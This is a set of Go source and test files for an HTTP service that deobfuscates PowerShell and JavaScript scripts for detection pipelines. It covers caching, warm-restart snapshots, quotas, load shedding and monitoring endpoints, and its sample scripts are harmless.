func TestStatszPerLanguage(t *testing.T) {
	s := New(Config{Workers: 2})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	client := ts.Client()

	// Two runs per language over identical bytes-per-language, so each
	// frontend's second run hits its namespaced cache slice.
	for i := 0; i < 2; i++ {
		pr := postJSON(t, client, ts.URL+"/v1/deobfuscate",
			`{"lang":"javascript","script":"var s = 'a' + 'b';"}`, nil)
		if pr.status != http.StatusOK {
			t.Fatalf("js run: status %d body %s", pr.status, pr.raw)
		}
		pr = postJSON(t, client, ts.URL+"/v1/deobfuscate",
			`{"lang":"powershell","script":"Write-Host hi"}`, nil)
		if pr.status != http.StatusOK {
			t.Fatalf("ps run: status %d body %s", pr.status, pr.raw)
		}
	}

	resp, err := client.Get(ts.URL + "/statsz")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var body statszBody
	if err := json.NewDecoder(resp.Body).Decode(&body); err != nil {
		t.Fatal(err)
	}
	if body.Langs["javascript"] != 2 || body.Langs["powershell"] != 2 {
		t.Errorf("langs = %v, want 2 javascript and 2 powershell", body.Langs)
	}
	js, ok := body.ParseCache.ByLang["javascript"]
	if !ok {
		t.Fatalf("parse_cache.by_lang missing javascript: %+v", body.ParseCache.ByLang)
	}
	ps, ok := body.ParseCache.ByLang["powershell"]
	if !ok {
		t.Fatalf("parse_cache.by_lang missing powershell: %+v", body.ParseCache.ByLang)
	}
	// The repeated identical request must have hit its own frontend's
	// namespace.
	if js.Hits == 0 {
		t.Errorf("javascript parse-cache slice shows no hits: %+v", js)
	}
	if ps.Hits == 0 {
		t.Errorf("powershell parse-cache slice shows no hits: %+v", ps)
	}
	if js.HitRate <= 0 || ps.HitRate <= 0 {
		t.Errorf("per-frontend hit rates not reported: js %+v ps %+v", js, ps)
	}
}
