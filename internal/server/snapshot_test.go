package server

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"testing"
	"time"
)

// TestSnapshotLifecycle runs the full warm-restart cycle inside one
// test: first server takes traffic and drains (saving the snapshot),
// second server boots from the file and reports warm hits on the same
// scripts — and /statsz exposes every stage.
func TestSnapshotLifecycle(t *testing.T) {
	path := filepath.Join(t.TempDir(), "caches.snap")
	scripts := []string{
		`Write-Host ('warm' + 'one')`,
		`$v = 'warm'; Write-Host $v`,
	}

	// --- first life: cold start, traffic, drain-time save ---
	s1 := New(Config{SnapshotPath: path, SnapshotInterval: -1})
	ts1 := httptest.NewServer(s1.Handler())
	for _, sc := range scripts {
		pr := postJSON(t, ts1.Client(), ts1.URL+"/v1/deobfuscate", scriptBody(sc), nil)
		if pr.status != http.StatusOK {
			t.Fatalf("first-life request = %d: %s", pr.status, pr.raw)
		}
	}
	var sb1 statszBody
	getJSON(t, ts1, "/statsz", &sb1)
	if sb1.Snapshot == nil {
		t.Fatal("statsz has no snapshot section despite SnapshotPath")
	}
	if sb1.Snapshot.Loaded {
		t.Error("first life claims a loaded snapshot; the file did not exist yet")
	}
	if sb1.Snapshot.LoadError != "" {
		t.Errorf("missing snapshot recorded as load error: %q", sb1.Snapshot.LoadError)
	}
	if sb1.ParseCache.Shards < 1 || len(sb1.ParseCache.ShardOccupancy) != sb1.ParseCache.Shards {
		t.Errorf("parse cache shard stats malformed: shards=%d occupancy=%d slots",
			sb1.ParseCache.Shards, len(sb1.ParseCache.ShardOccupancy))
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := s1.Drain(ctx); err != nil {
		t.Fatalf("drain: %v", err)
	}
	ts1.Close()
	if _, err := os.Stat(path); err != nil {
		t.Fatalf("drain did not write the snapshot: %v", err)
	}

	// --- second life: warm start from the drained snapshot ---
	s2 := New(Config{SnapshotPath: path, SnapshotInterval: -1})
	ts2 := httptest.NewServer(s2.Handler())
	defer ts2.Close()
	var sb2 statszBody
	getJSON(t, ts2, "/statsz", &sb2)
	if sb2.Snapshot == nil || !sb2.Snapshot.Loaded {
		t.Fatalf("second life did not load the snapshot: %+v", sb2.Snapshot)
	}
	if sb2.Snapshot.LoadParseWarmed == 0 {
		t.Fatalf("snapshot load warmed no parse entries: %+v", sb2.Snapshot)
	}
	if sb2.ParseCache.Warmed == 0 {
		t.Errorf("parse cache reports no warmed entries after load: %+v", sb2.ParseCache)
	}
	// Replaying the first life's traffic must hit the warm entries.
	for _, sc := range scripts {
		pr := postJSON(t, ts2.Client(), ts2.URL+"/v1/deobfuscate", scriptBody(sc), nil)
		if pr.status != http.StatusOK {
			t.Fatalf("second-life request = %d: %s", pr.status, pr.raw)
		}
	}
	getJSON(t, ts2, "/statsz", &sb2)
	if sb2.ParseCache.WarmHits == 0 {
		t.Errorf("no warm hits on replayed traffic: %+v", sb2.ParseCache)
	}
	if err := s2.Drain(context.Background()); err != nil {
		t.Fatalf("second drain: %v", err)
	}
	var after statszBody
	getJSON(t, ts2, "/statsz", &after)
	if after.Snapshot.Saves < 1 {
		t.Errorf("second drain recorded %d saves, want >= 1", after.Snapshot.Saves)
	}
}

// TestSnapshotCorruptFileColdStart: a mangled snapshot file must leave
// the server fully serving — cold caches, load error surfaced on
// /statsz, no crash.
func TestSnapshotCorruptFileColdStart(t *testing.T) {
	path := filepath.Join(t.TempDir(), "caches.snap")
	if err := os.WriteFile(path, []byte("IDOBSNP1 but then garbage"), 0o644); err != nil {
		t.Fatal(err)
	}
	s := New(Config{SnapshotPath: path, SnapshotInterval: -1})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	var sb statszBody
	getJSON(t, ts, "/statsz", &sb)
	if sb.Snapshot == nil {
		t.Fatal("no snapshot section")
	}
	if sb.Snapshot.Loaded {
		t.Error("corrupt snapshot reported as loaded")
	}
	if sb.Snapshot.LoadError == "" {
		t.Error("corrupt snapshot left no load_error on /statsz")
	}
	pr := postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody(`Write-Host 'alive'`), nil)
	if pr.status != http.StatusOK {
		t.Fatalf("request after corrupt snapshot = %d: %s", pr.status, pr.raw)
	}
	// Drain overwrites the corrupt file with a valid snapshot.
	if err := s.Drain(context.Background()); err != nil {
		t.Fatal(err)
	}
	s2 := New(Config{SnapshotPath: path, SnapshotInterval: -1})
	ts2 := httptest.NewServer(s2.Handler())
	defer ts2.Close()
	var sb2 statszBody
	getJSON(t, ts2, "/statsz", &sb2)
	if !sb2.Snapshot.Loaded {
		t.Errorf("snapshot rewritten on drain still does not load: %+v", sb2.Snapshot)
	}
}

// TestSnapshotPeriodicSave: with a short interval, the ticker persists
// the caches without any drain.
func TestSnapshotPeriodicSave(t *testing.T) {
	path := filepath.Join(t.TempDir(), "caches.snap")
	s := New(Config{SnapshotPath: path, SnapshotInterval: 20 * time.Millisecond})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	pr := postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody(`Write-Host 'tick'`), nil)
	if pr.status != http.StatusOK {
		t.Fatalf("request = %d", pr.status)
	}
	deadline := time.Now().Add(5 * time.Second)
	for {
		var sb statszBody
		getJSON(t, ts, "/statsz", &sb)
		if sb.Snapshot != nil && sb.Snapshot.Saves >= 1 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("periodic saver never wrote a snapshot")
		}
		time.Sleep(10 * time.Millisecond)
	}
	if _, err := os.Stat(path); err != nil {
		t.Fatalf("snapshot file missing after periodic save: %v", err)
	}
	if err := s.Drain(context.Background()); err != nil {
		t.Fatal(err)
	}
}

// TestSnapshotDisabled: without SnapshotPath the section is absent and
// drain performs no save.
func TestSnapshotDisabled(t *testing.T) {
	s := New(Config{})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	var sb statszBody
	getJSON(t, ts, "/statsz", &sb)
	if sb.Snapshot != nil {
		t.Errorf("snapshot section present without SnapshotPath: %+v", sb.Snapshot)
	}
	if err := s.Drain(context.Background()); err != nil {
		t.Fatal(err)
	}
}
