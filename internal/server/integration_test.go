package server

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"sync"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
	"github.com/invoke-deobfuscation/invokedeob/internal/corpus"
)

// integrationScripts returns a small deterministic corpus of obfuscated
// scripts plus one pinned hand-written sample, so the suite exercises
// both generated wild-like layering and a known-answer case.
func integrationScripts() []string {
	scripts := []string{
		`IEX ("Wri{0}e-Ho{1}t 'integration'" -f 't','s')`,
	}
	for _, s := range corpus.Generate(corpus.Config{Seed: 11, N: 4}) {
		scripts = append(scripts, s.Source)
	}
	return scripts
}

// TestConcurrentClientsMatchLibrary is the end-to-end contract of the
// service: N goroutines hammer /v1/deobfuscate with a mix of distinct
// and duplicated scripts, and every response's recovered script must be
// byte-identical to what a direct library call produces. Duplication
// across goroutines is deliberate — it is what makes the shared parse
// cache earn hits across request boundaries, which the test asserts
// via /statsz. Run under -race this also shakes out data races in the
// shared-cache and stats paths.
func TestConcurrentClientsMatchLibrary(t *testing.T) {
	scripts := integrationScripts()

	// Ground truth from direct library calls with a fresh engine: the
	// HTTP layer must not perturb output bytes.
	eng := core.New(core.Options{})
	want := make(map[string]string, len(scripts))
	for _, src := range scripts {
		res, err := eng.Deobfuscate(src)
		if err != nil {
			t.Fatalf("library baseline failed: %v", err)
		}
		want[src] = res.Script
	}

	s := New(Config{Workers: 4})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	const goroutines = 8
	const repeats = 2 // every goroutine sends every script twice
	var wg sync.WaitGroup
	errs := make(chan error, goroutines*len(scripts)*repeats)
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for r := 0; r < repeats; r++ {
				// Stagger start offsets so goroutines collide on
				// different scripts at the same instant.
				for i := range scripts {
					src := scripts[(i+g)%len(scripts)]
					pr, err := doPost(ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody(src), nil)
					if err != nil {
						errs <- fmt.Errorf("goroutine %d: %v", g, err)
						continue
					}
					if pr.status != http.StatusOK {
						errs <- fmt.Errorf("goroutine %d: status %d (%s: %s)", g, pr.status, pr.eb.Error.Name, pr.eb.Error.Message)
						continue
					}
					var rb resultBody
					if err := json.Unmarshal(pr.raw, &rb); err != nil {
						errs <- fmt.Errorf("goroutine %d: bad body: %v", g, err)
						continue
					}
					if rb.Script != want[src] {
						errs <- fmt.Errorf("goroutine %d: served script diverged from library output\nserved: %q\nwant:   %q", g, rb.Script, want[src])
					}
					if rb.Stats.Iterations == 0 {
						errs <- fmt.Errorf("goroutine %d: response missing engine stats", g)
					}
				}
			}
		}(g)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
	if t.Failed() {
		return
	}

	// The shared caches must have amortized the duplicated scripts.
	var stats statszBody
	getJSON(t, ts, "/statsz", &stats)
	if stats.ParseCache.Hits == 0 {
		t.Errorf("shared parse cache saw no hits across %d duplicated requests: %+v",
			goroutines*len(scripts)*repeats, stats.ParseCache)
	}
	if stats.ParseCache.HitRate <= 0 {
		t.Errorf("parse cache hit_rate = %v, want > 0", stats.ParseCache.HitRate)
	}
	if stats.EvalCache == nil {
		t.Error("statsz missing eval_cache despite the eval cache being enabled")
	}
	total := goroutines * len(scripts) * repeats
	if got := stats.Requests[endpointDeobfuscate]; got != int64(total) {
		t.Errorf("requests counter = %d, want %d", got, total)
	}
	if got := stats.Completed[endpointDeobfuscate]; got != int64(total) {
		t.Errorf("completed counter = %d, want %d", got, total)
	}
	if stats.InFlight != 0 {
		t.Errorf("in_flight = %d after all requests returned, want 0", stats.InFlight)
	}
	if len(stats.PassTrace) == 0 {
		t.Error("statsz pass_trace empty after real engine runs")
	}
	if stats.Stats.Iterations == 0 {
		t.Error("statsz aggregate stats empty after real engine runs")
	}
}

// TestBatchMatchesLibrary posts a /v1/batch mixing healthy scripts with
// an unparsable one and checks DeobfuscateBatch semantics over HTTP:
// input-order results, per-item errors that do not fail siblings, and
// output bytes identical to the direct library batch.
func TestBatchMatchesLibrary(t *testing.T) {
	scripts := integrationScripts()[:3]
	inputs := make([]core.BatchInput, 0, len(scripts)+1)
	var reqScripts []scriptRequest
	for i, src := range scripts {
		name := fmt.Sprintf("s%d", i)
		inputs = append(inputs, core.BatchInput{Name: name, Script: src})
		reqScripts = append(reqScripts, scriptRequest{Name: name, Script: src})
	}
	inputs = append(inputs, core.BatchInput{Name: "broken", Script: "while ("})
	reqScripts = append(reqScripts, scriptRequest{Name: "broken", Script: "while ("})

	eng := core.New(core.Options{})
	direct := eng.DeobfuscateBatch(context.Background(), inputs)

	s := New(Config{Workers: 2})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	body, _ := json.Marshal(batchRequest{Scripts: reqScripts})
	pr := postJSON(t, ts.Client(), ts.URL+"/v1/batch", string(body), nil)
	if pr.status != http.StatusOK {
		t.Fatalf("batch status = %d, body %s", pr.status, pr.raw)
	}
	var br batchResponse
	if err := json.Unmarshal(pr.raw, &br); err != nil {
		t.Fatal(err)
	}
	if len(br.Results) != len(direct) {
		t.Fatalf("got %d results, want %d", len(br.Results), len(direct))
	}
	for i, item := range br.Results {
		d := direct[i]
		if item.Index != i || item.Name != d.Name {
			t.Errorf("result %d out of order: got (%d, %q), want (%d, %q)", i, item.Index, item.Name, i, d.Name)
		}
		if d.Err != nil {
			if item.Error == nil {
				t.Errorf("result %d: library errored (%v) but service reported success", i, d.Err)
			} else if item.Error.Name != nameInvalidSyntax {
				t.Errorf("result %d: error name = %q, want %q", i, item.Error.Name, nameInvalidSyntax)
			}
			continue
		}
		if item.Error != nil {
			t.Errorf("result %d: service errored (%s) but library succeeded", i, item.Error.Message)
			continue
		}
		if item.Script != d.Result.Script {
			t.Errorf("result %d: served script diverged from library batch\nserved: %q\nwant:   %q", i, item.Script, d.Result.Script)
		}
	}
}

// TestStatszShape sanity-checks the monitoring endpoints on a fresh
// server: healthz healthy, statsz well-formed with zeroed counters.
func TestStatszShape(t *testing.T) {
	s := New(Config{})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	var hb healthzBody
	code := getJSON(t, ts, "/healthz", &hb)
	if code != http.StatusOK || hb.Status != "ok" || hb.Draining {
		t.Errorf("fresh healthz = %d %+v, want 200 ok", code, hb)
	}
	var sb statszBody
	code = getJSON(t, ts, "/statsz", &sb)
	if code != http.StatusOK {
		t.Fatalf("statsz = %d, want 200", code)
	}
	if sb.Workers <= 0 || sb.QueueDepth != 64 {
		t.Errorf("statsz pool shape = %d workers / %d queue, want defaults", sb.Workers, sb.QueueDepth)
	}
	if sb.UptimeSeconds < 0 {
		t.Errorf("uptime_seconds = %v", sb.UptimeSeconds)
	}
	if sb.ParseCache.Hits != 0 || sb.ParseCache.Misses != 0 {
		t.Errorf("fresh parse cache not empty: %+v", sb.ParseCache)
	}
}

// getJSON fetches path and decodes the body, returning the status code.
func getJSON(t *testing.T, ts *httptest.Server, path string, v any) int {
	t.Helper()
	resp, err := ts.Client().Get(ts.URL + path)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if err := json.NewDecoder(resp.Body).Decode(v); err != nil {
		t.Fatalf("GET %s: %v", path, err)
	}
	return resp.StatusCode
}
