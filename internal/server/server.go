// Package server turns the deobfuscation engine into a long-lived HTTP
// service: deobfuscation-as-a-service for detection pipelines that
// stream PowerShell samples at it instead of shelling out per script.
//
// The design goals, in order:
//
//   - Shared amortization. All requests draw from one bounded parse
//     cache and one bounded evaluation cache, so the near-clone traffic
//     that dominates malware feeds (one builder, thousands of stagers)
//     parses and evaluates once per family instead of once per request.
//   - Admission control over queue growth. A bounded worker pool plus a
//     bounded admission queue; when both are full the server answers
//     429 with Retry-After immediately rather than buffering unbounded
//     work it cannot finish.
//   - Fairness across tenants. Per-tenant token-bucket quotas (keyed by
//     X-Api-Key, one shared anonymous bucket for unkeyed traffic) stop
//     one abusive or unlucky tenant from saturating the admission
//     window for everyone; quota rejections are 429 ErrQuota with a
//     Retry-After computed from the bucket's actual refill time, and
//     bucket count is LRU-bounded so key churn cannot exhaust memory.
//   - Cost-aware degradation. A cheap pre-scan (length, entropy,
//     encoded-blob density) classifies each request light or heavy;
//     once the admission window passes the shed high-water mark, heavy
//     requests are refused first (503 ErrShed) so cheap traffic keeps
//     flowing instead of everything collapsing together.
//   - Envelope enforcement per request. Every request runs under a
//     deadline (client-requested via the X-Deob-Timeout header, capped,
//     or the server default) and the PR 1 limits taxonomy; violations
//     come back as structured JSON errors with the taxonomy name and a
//     faithful 4xx/5xx mapping (limits.HTTPStatus).
//   - Graceful drain. Drain flips the server into refuse-new mode
//     (503 + Retry-After), waits for in-flight work, and leaves caches
//     intact, so a rolling restart never truncates a response.
//
// Endpoints: POST /v1/deobfuscate (one script), POST /v1/batch (many
// scripts, DeobfuscateBatch semantics), GET /healthz (liveness + drain
// state), GET /statsz (aggregated run stats, pass trace, cache hit
// rates).
package server

import (
	"context"
	"math"
	"net/http"
	"runtime"
	"sync"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
	"github.com/invoke-deobfuscation/invokedeob/internal/quota"

	// Register the standard language frontends with the engine driver.
	_ "github.com/invoke-deobfuscation/invokedeob/internal/frontends"
)

// TimeoutHeader is the request header carrying the client's requested
// processing deadline as a Go duration string ("500ms", "10s"). It is
// capped at Config.MaxTimeout; absent, Config.DefaultTimeout applies.
const TimeoutHeader = "X-Deob-Timeout"

// APIKeyHeader identifies the tenant for per-tenant quotas. Requests
// without it share one anonymous bucket, so unkeyed traffic is rate
// limited collectively rather than escaping quotas altogether.
const APIKeyHeader = "X-Api-Key"

// anonKey is the shared bucket key for requests without APIKeyHeader.
const anonKey = "anonymous"

// Config tunes the service. The zero value selects production-shaped
// defaults for every field.
type Config struct {
	// Workers bounds how many requests execute engine work
	// concurrently. Zero means GOMAXPROCS. A batch request occupies one
	// worker slot; its internal parallelism is governed by
	// Engine.Jobs.
	Workers int
	// QueueDepth bounds how many admitted requests may wait for a
	// worker slot beyond the Workers currently executing. Zero means 64;
	// negative means no queue (beyond the executing workers).
	QueueDepth int
	// DefaultTimeout is the per-request processing deadline when the
	// client sends no TimeoutHeader. Zero means 30s.
	DefaultTimeout time.Duration
	// MaxTimeout caps the client-requested deadline so one caller
	// cannot park a worker for an hour. Zero means 2m.
	MaxTimeout time.Duration
	// MaxBodyBytes bounds the request body. Zero means 8 MiB.
	MaxBodyBytes int64
	// MaxScriptBytes bounds one script's length. Zero means 1 MiB.
	MaxScriptBytes int
	// MaxBatchScripts bounds the scripts per /v1/batch request. Zero
	// means 64.
	MaxBatchScripts int
	// QuotaRate is the per-tenant steady-state allowance in requests
	// per second (token-bucket refill rate), keyed by APIKeyHeader.
	// Zero or negative disables quotas.
	QuotaRate float64
	// QuotaBurst is the token-bucket capacity per tenant. Zero means
	// max(QuotaRate, 1).
	QuotaBurst float64
	// QuotaMaxBuckets bounds how many tenant buckets exist at once
	// (LRU eviction beyond it), so hostile key churn cannot exhaust
	// memory. Zero means 1024.
	QuotaMaxBuckets int
	// HeavyCost is the costEstimate score (effective bytes) at or
	// above which a request is classified heavy and becomes sheddable
	// under pressure. Zero means 32768.
	HeavyCost float64
	// ShedHighWater is the admission-window occupancy fraction (0..1]
	// at or above which heavy requests are shed. Zero means 0.75;
	// negative disables cost-aware shedding.
	ShedHighWater float64
	// SnapshotPath, when non-empty, enables warm-restart persistence:
	// the shared caches are loaded from this file at startup (missing
	// or corrupt files mean a cold start, never a failure) and saved
	// back on graceful drain and on the SnapshotInterval ticker.
	SnapshotPath string
	// SnapshotInterval is the periodic snapshot cadence. Zero means 5m
	// when SnapshotPath is set; negative disables periodic saves (the
	// drain-time save still happens).
	SnapshotInterval time.Duration
	// Engine configures the underlying deobfuscator shared by all
	// requests.
	Engine core.Options
}

// withDefaults resolves the zero fields to the documented defaults.
func (c Config) withDefaults() Config {
	if c.Workers <= 0 {
		c.Workers = runtime.GOMAXPROCS(0)
	}
	if c.QueueDepth == 0 {
		c.QueueDepth = 64
	}
	if c.QueueDepth < 0 {
		c.QueueDepth = 0
	}
	if c.DefaultTimeout <= 0 {
		c.DefaultTimeout = 30 * time.Second
	}
	if c.MaxTimeout <= 0 {
		c.MaxTimeout = 2 * time.Minute
	}
	if c.MaxBodyBytes <= 0 {
		c.MaxBodyBytes = 8 << 20
	}
	if c.MaxScriptBytes <= 0 {
		c.MaxScriptBytes = 1 << 20
	}
	if c.MaxBatchScripts <= 0 {
		c.MaxBatchScripts = 64
	}
	if c.QuotaBurst <= 0 && c.QuotaRate > 0 {
		c.QuotaBurst = c.QuotaRate
		if c.QuotaBurst < 1 {
			c.QuotaBurst = 1
		}
	}
	if c.QuotaMaxBuckets <= 0 {
		c.QuotaMaxBuckets = 1024
	}
	if c.HeavyCost == 0 {
		c.HeavyCost = 32768
	}
	if c.ShedHighWater == 0 {
		c.ShedHighWater = 0.75
	}
	if c.SnapshotPath != "" && c.SnapshotInterval == 0 {
		c.SnapshotInterval = 5 * time.Minute
	}
	return c
}

// Server is the deobfuscation service. Create with New, mount
// Handler() on an http.Server, and call Drain before exit.
type Server struct {
	cfg Config
	eng *core.Deobfuscator

	// cache and evalCache are the process-lifetime amortization pools
	// shared by every request (evalCache is nil when the engine option
	// disables evaluation memoization).
	cache     *pipeline.Cache
	evalCache *pipeline.EvalCache

	// admit bounds total admitted work: executing + queued. A failed
	// non-blocking send is the saturation signal (429).
	admit chan struct{}
	// slots is the worker pool: holding a token means executing engine
	// work. Waiting for a token is bounded by the request deadline.
	slots chan struct{}

	// quota is the per-tenant token-bucket limiter (nil when quotas
	// are disabled; a nil limiter allows everything).
	quota *quota.Limiter
	// shedThreshold is the admission-window occupancy (token count) at
	// or above which heavy requests are shed; cap(admit)+1 when
	// shedding is disabled.
	shedThreshold int

	// drainMu guards the draining flag against the in-flight WaitGroup:
	// requests register under the read lock, Drain flips the flag under
	// the write lock, so no request can slip in after the flip yet miss
	// the WaitGroup wait.
	drainMu  sync.RWMutex
	draining bool
	inflight sync.WaitGroup

	// snap tracks warm-restart persistence (nil when SnapshotPath is
	// unset): startup load outcome, save counters, and the periodic
	// saver's lifecycle.
	snap *snapshotState

	stats *serverStats

	// runSingle / runBatch execute engine work; tests substitute
	// deterministic fakes to exercise admission and drain without
	// timing dependence.
	runSingle func(ctx context.Context, lang, script string) (*core.Result, error)
	runBatch  func(ctx context.Context, inputs []core.BatchInput) []core.BatchResult
}

// New builds a Server from cfg (zero fields take defaults).
func New(cfg Config) *Server {
	cfg = cfg.withDefaults()
	s := &Server{
		cfg:   cfg,
		eng:   core.New(cfg.Engine),
		cache: core.NewParseCache(0, 0),
		admit: make(chan struct{}, cfg.Workers+cfg.QueueDepth),
		slots: make(chan struct{}, cfg.Workers),
		stats: newServerStats(),
		quota: quota.New(quota.Config{
			Rate:       cfg.QuotaRate,
			Burst:      cfg.QuotaBurst,
			MaxBuckets: cfg.QuotaMaxBuckets,
		}),
	}
	if cfg.ShedHighWater < 0 {
		s.shedThreshold = cap(s.admit) + 1 // unreachable: shedding off
	} else {
		s.shedThreshold = int(math.Ceil(cfg.ShedHighWater * float64(cap(s.admit))))
		if s.shedThreshold < 1 {
			s.shedThreshold = 1
		}
	}
	if !cfg.Engine.DisableEvalCache {
		s.evalCache = core.NewEvalCache(0, 0)
	}
	if cfg.SnapshotPath != "" {
		s.snap = &snapshotState{
			path: cfg.SnapshotPath,
			stop: make(chan struct{}),
			done: make(chan struct{}),
		}
		s.loadSnapshot()
		if cfg.SnapshotInterval > 0 {
			go s.snapshotLoop(cfg.SnapshotInterval)
		} else {
			close(s.snap.done)
		}
	}
	s.runSingle = func(ctx context.Context, lang, script string) (*core.Result, error) {
		return s.eng.DeobfuscateSharedLang(ctx, script, lang, s.cache, s.evalCache)
	}
	s.runBatch = func(ctx context.Context, inputs []core.BatchInput) []core.BatchResult {
		return s.eng.DeobfuscateBatchShared(ctx, inputs, s.cache, s.evalCache)
	}
	return s
}

// Handler returns the service's routing handler. Every response flows
// through the status-counting middleware so /statsz can report
// shed/429/503/504 rates for the load harness to scrape.
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/v1/deobfuscate", s.handleDeobfuscate)
	mux.HandleFunc("/v1/batch", s.handleBatch)
	mux.HandleFunc("/healthz", s.handleHealthz)
	mux.HandleFunc("/statsz", s.handleStatsz)
	mux.HandleFunc("/metrics", s.handleMetrics)
	return s.stats.countStatuses(mux)
}

// begin registers an in-flight request unless the server is draining.
func (s *Server) begin() bool {
	s.drainMu.RLock()
	defer s.drainMu.RUnlock()
	if s.draining {
		return false
	}
	s.inflight.Add(1)
	return true
}

// end unregisters an in-flight request.
func (s *Server) end() { s.inflight.Done() }

// Draining reports whether the server has stopped accepting work.
func (s *Server) Draining() bool {
	s.drainMu.RLock()
	defer s.drainMu.RUnlock()
	return s.draining
}

// Drain flips the server into refuse-new mode and waits for every
// in-flight request to complete (bounded by ctx). In-flight work is
// never interrupted: a request admitted before the flip finishes and
// its response is delivered. Drain is idempotent; concurrent calls all
// wait for the same quiesce. When warm-restart persistence is enabled,
// the quiesced caches are saved to the snapshot file exactly once (on
// timeout the save still runs — a slightly stale snapshot beats a cold
// restart).
func (s *Server) Drain(ctx context.Context) error {
	s.drainMu.Lock()
	s.draining = true
	s.drainMu.Unlock()
	done := make(chan struct{})
	go func() {
		s.inflight.Wait()
		close(done)
	}()
	var err error
	select {
	case <-done:
	case <-ctx.Done():
		err = ctx.Err()
	}
	if s.snap != nil {
		s.snap.saveOnDrain.Do(func() {
			s.stopSnapshotLoop()
			s.saveSnapshot()
		})
	}
	return err
}

// requestContext derives the per-request processing deadline: the
// TimeoutHeader duration capped at MaxTimeout, or DefaultTimeout. The
// bool result reports header validity.
func (s *Server) requestContext(r *http.Request) (context.Context, context.CancelFunc, bool) {
	d := s.cfg.DefaultTimeout
	if h := r.Header.Get(TimeoutHeader); h != "" {
		parsed, err := time.ParseDuration(h)
		if err != nil || parsed <= 0 {
			return nil, nil, false
		}
		d = parsed
		if d > s.cfg.MaxTimeout {
			d = s.cfg.MaxTimeout
		}
	}
	ctx, cancel := context.WithTimeout(r.Context(), d)
	return ctx, cancel, true
}
