package server

// Warm-restart persistence wiring: load the cache snapshot at startup,
// save it on graceful drain and on a periodic ticker, and expose the
// load/save outcomes through /statsz. All snapshot failures are
// non-fatal — a missing or corrupt file means a cold start, a failed
// save means the previous snapshot (if any) stays in place.

import (
	"context"
	"errors"
	"os"
	"sync"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
)

// snapshotLoadTimeout bounds startup warm-up: re-deriving artifacts is
// useful only if it does not delay readiness indefinitely.
const snapshotLoadTimeout = 30 * time.Second

// snapshotState tracks the lifecycle of the server's snapshot file.
type snapshotState struct {
	path string

	mu        sync.Mutex
	loaded    bool
	loadErr   string
	loadStats core.SnapshotLoadStats

	saves      int64
	saveErrors int64
	lastSave   core.SnapshotSaveStats
	lastErr    string

	saveOnDrain sync.Once
	stop        chan struct{}
	stopOnce    sync.Once
	done        chan struct{}
}

// loadSnapshot warms the caches from the configured snapshot at
// startup. A missing file is a normal first boot; any other failure is
// recorded for /statsz and the server starts cold.
func (s *Server) loadSnapshot() {
	ctx, cancel := context.WithTimeout(context.Background(), snapshotLoadTimeout)
	defer cancel()
	stats, err := core.LoadCacheSnapshot(ctx, s.snap.path, s.cache, s.evalCache)
	s.snap.mu.Lock()
	defer s.snap.mu.Unlock()
	s.snap.loadStats = stats
	switch {
	case err == nil:
		s.snap.loaded = true
	case errors.Is(err, os.ErrNotExist):
		// First boot: no snapshot yet, nothing to report.
	default:
		s.snap.loadErr = err.Error()
	}
}

// saveSnapshot writes the current cache contents to the configured
// path, recording the outcome for /statsz.
func (s *Server) saveSnapshot() {
	stats, err := core.SaveCacheSnapshot(s.snap.path, s.cache, s.evalCache)
	s.snap.mu.Lock()
	defer s.snap.mu.Unlock()
	if err != nil {
		s.snap.saveErrors++
		s.snap.lastErr = err.Error()
		return
	}
	s.snap.saves++
	s.snap.lastSave = stats
	s.snap.lastErr = ""
}

// snapshotLoop periodically persists the caches until stopped, so a
// crash (no graceful drain) loses at most one interval of warmth.
func (s *Server) snapshotLoop(interval time.Duration) {
	defer close(s.snap.done)
	t := time.NewTicker(interval)
	defer t.Stop()
	for {
		select {
		case <-t.C:
			s.saveSnapshot()
		case <-s.snap.stop:
			return
		}
	}
}

// stopSnapshotLoop halts the periodic saver (idempotent) and waits for
// an in-progress tick to finish, so a drain-time save never races a
// ticker save on the same file.
func (s *Server) stopSnapshotLoop() {
	if s.snap == nil {
		return
	}
	s.snap.stopOnce.Do(func() { close(s.snap.stop) })
	<-s.snap.done
}

// snapshotStatsBody is the /statsz surface of the snapshot lifecycle.
type snapshotStatsBody struct {
	Path   string `json:"path"`
	Loaded bool   `json:"loaded"`
	// LoadError explains a cold start (missing file, corrupt snapshot).
	LoadError string `json:"load_error,omitempty"`
	// Load counters: records present in the file vs records actually
	// re-derived into the caches.
	LoadParseEntries int `json:"load_parse_entries"`
	LoadEvalEntries  int `json:"load_eval_entries"`
	LoadParseWarmed  int `json:"load_parse_warmed"`
	LoadEvalWarmed   int `json:"load_eval_warmed"`
	// Save counters across the server's lifetime (ticker + drain).
	Saves         int64  `json:"saves"`
	SaveErrors    int64  `json:"save_errors,omitempty"`
	LastSaveError string `json:"last_save_error,omitempty"`
	LastSaveParse int    `json:"last_save_parse_entries"`
	LastSaveEval  int    `json:"last_save_eval_entries"`
	LastSaveBytes int64  `json:"last_save_bytes"`
}

// snapshotStats renders the current snapshot lifecycle state, or nil
// when persistence is disabled.
